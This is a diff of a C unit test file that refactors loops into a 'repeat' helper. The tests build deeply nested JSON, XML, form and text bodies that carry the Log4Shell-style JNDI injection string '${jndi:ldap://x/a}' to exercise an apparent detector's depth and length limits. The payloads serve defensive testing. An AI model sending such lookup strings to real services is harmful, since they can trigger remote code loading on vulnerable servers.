@@ -39,6 +39,12 @@ static const struct {
      ""},
 };
 
+static void repeat(struct buf *b, const char *text, size_t times)
+{
+    for (size_t i = 0; i < times; i++)
+        (void)buf_add_str(b, text);
+}
+
 static uint64_t stands_still(void)
 {
     return 1000000;
@@ -128,11 +134,9 @@ static void test_depth(void **state)
         char want[LIMIT_GUARD_FIELD_NAME + 20] = "json:";
         size_t shown = depth < LIMIT_GUARD_DEPTH ? depth : LIMIT_GUARD_DEPTH;
         buf_clear(&b);
-        for (size_t i = 0; i < depth; i++)
-            (void)buf_add_str(&b, "[");
+        repeat(&b, "[", depth);
         (void)buf_add_str(&b, "\"${jndi:ldap://x/a}\"");
-        for (size_t i = 0; i < depth; i++)
-            (void)buf_add_str(&b, "]");
+        repeat(&b, "]", depth);
         (void)buf_add_str(&b, "{\"q\":1}");
         for (size_t i = 0; i < shown; i++)
             (void)snprintf(want + strlen(want), sizeof want - strlen(want), "/0");
@@ -140,10 +144,8 @@ static void test_depth(void **state)
         assert_string_equal(probe_field(&p), want);
         buf_clear(&b);
         (void)buf_add_str(&b, "<r>");
-        for (size_t i = 0; i < depth; i++)
-            (void)buf_add_str(&b, "<a>");
-        for (size_t i = 0; i < depth; i++)
-            (void)buf_add_str(&b, "</a>");
+        repeat(&b, "<a>", depth);
+        repeat(&b, "</a>", depth);
         (void)buf_add_str(&b, "<q>${jndi:ldap://x/a}</q></r>");
         probe_body(&p, "text/xml", "", buf_slice(&b));
         assert_string_equal(probe_field(&p), "xml:r/q"); /* and the way back is found */
@@ -162,8 +164,7 @@ static void test_lengths(void **state)
     buf_init(&b, MIB(1));
     for (size_t n = LIMIT_GUARD_FIELD_NAME - 1; n <= LIMIT_GUARD_FIELD_NAME + 1; n++) {
         buf_clear(&b);
-        for (size_t i = 0; i < n; i++)
-            (void)buf_add_char(&b, 'n');
+        repeat(&b, "n", n);
         (void)buf_add_str(&b, "=${jndi:ldap://x/a}");
         probe_body(&p, FORM, "", buf_slice(&b));
         assert_int_equal(p.q.found.field.name.n,
@@ -172,8 +173,7 @@ static void test_lengths(void **state)
     for (size_t n = LIMIT_GUARD_KEY - 1; n <= LIMIT_GUARD_KEY + 1; n++) {
         buf_clear(&b);
         (void)buf_add_str(&b, "${jndi:");
-        for (size_t i = 0; i < n; i++)
-            (void)buf_add_char(&b, 'k');
+        repeat(&b, "k", n);
         (void)buf_add_str(&b, "}");
         probe_body(&p, "text/plain", "", buf_slice(&b));
         assert_int_equal(p.q.found.key.n, n < LIMIT_GUARD_KEY ? n : LIMIT_GUARD_KEY);
@@ -181,8 +181,7 @@ static void test_lengths(void **state)
     /* more fields with a place than are told apart */
     for (size_t n = LIMIT_GUARD_MARKS - 1; n <= LIMIT_GUARD_MARKS + 1; n++) {
         buf_clear(&b);
-        for (size_t i = 1; i < n; i++)
-            (void)buf_add_str(&b, "a=${&");
+        repeat(&b, "a=${&", n - 1);
         (void)buf_add_str(&b, "q=${jndi:ldap://x/a}");
         probe_body(&p, FORM, "", buf_slice(&b));
         assert_int_equal(p.q.found.verdict, VERDICT_REACHES);
